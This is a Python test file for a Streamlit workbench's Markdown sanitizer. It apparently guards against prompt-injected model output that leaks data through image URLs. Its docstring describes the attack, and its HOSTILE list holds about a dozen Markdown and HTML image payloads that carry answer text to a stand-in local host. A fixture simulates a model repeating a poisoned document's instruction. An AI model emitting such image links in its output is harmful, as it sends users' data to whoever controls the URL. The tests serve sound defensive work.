"""Case: `![x](http://host/leak.png?d=...)` in an answer made the browser fetch that URL with
text from the answer. Now no image in model output renders, in the chat, the Run history or
the Markdown export; links stay clickable with their target shown; code is untouched."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from tests.fakes import FakeBackend
from tests.ui.conftest import APP, build_glm, glm  # noqa: F401 (the page's real facade)
from workbench.safe_markdown import safe_markdown

LEAK = "![x](http://127.0.0.1:9/leak.png?d=the+secret+answer)"
HOSTILE = [
    LEAK,
    '![a](<http://127.0.0.1:9/a b.png> "t")',
    "![ref][r]\n\n[r]: http://127.0.0.1:9/r.png",
    "![shortcut]\n\n[shortcut]: http://127.0.0.1:9/s.png",
    "[![badge](http://127.0.0.1:9/b.png)](http://127.0.0.1:9/link)",
    "![x](http://127.0.0.1:9/a(b).png)",
    "\\\\![x](http://127.0.0.1:9/escaped-backslash.png)",
    "\\`![x](http://127.0.0.1:9/not-code.png)`",
    '<img src="http://127.0.0.1:9/tag.png">',
    "```\nfenced\n```\n![x](http://127.0.0.1:9/after-fence.png)",
    "> ![quoted](http://127.0.0.1:9/q.png)\n- ![listed](http://127.0.0.1:9/l.png)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_image_survives_a_real_commonmark_parser(text):
    html = MarkdownIt("commonmark").enable("table").render(safe_markdown(text))
    assert "<img" not in html


def test_links_stay_clickable_with_their_target_and_code_is_untouched():
    text = "See [the docs](https://faust.grame.fr/doc) and `![x](y)`.\n\n```faust\nprocess = _; // ![z](w)\n```\n"
    safe = safe_markdown(text)
    assert "[the docs](https://faust.grame.fr/doc) (`https://faust.grame.fr/doc`)" in safe
    assert "`![x](y)`" in safe and "```faust\nprocess = _; // ![z](w)\n```" in safe
    image = safe_markdown(LEAK)
    html = MarkdownIt("commonmark").render(image)
    assert '<a href="http://127.0.0.1:9/leak.png?d=the+secret+answer">image: x</a>' in html


@pytest.fixture
def backend() -> FakeBackend:
    """A model repeating what a poisoned document told it to write."""
    return FakeBackend(f"Here is the filter.\n\n{LEAK}\n\nDone.", models=["fake-model"])


@pytest.fixture
def poisoned(glm):
    return glm.chat_with_model_enhanced("Write a lowpass", use_hrm_decomposition=False, project="default")


def test_the_chat_page_draws_the_answer_without_the_image(glm, poisoned):
    at = AppTest.from_file(APP, default_timeout=30)
    at.query_params["conversation"] = str(poisoned.conversation_id)
    at.run()
    drawn = [md.value for md in at.markdown]
    assert any("image: x" in value for value in drawn)
    assert not any("![" in value.replace("\\![", "") for value in drawn)


def test_the_run_history_and_the_markdown_export_carry_no_image(glm, poisoned):
    at = AppTest.from_file(APP, default_timeout=30)
    at.switch_page("pages/2_Run_history.py")
    at.run()
    assert not at.exception
    assert not any("![" in md.value.replace("\\![", "") for md in at.markdown)
    exported = glm.export_run(poisoned.run_id, "markdown")
    assert "<img" not in MarkdownIt("commonmark").render(exported) and "image: x" in exported
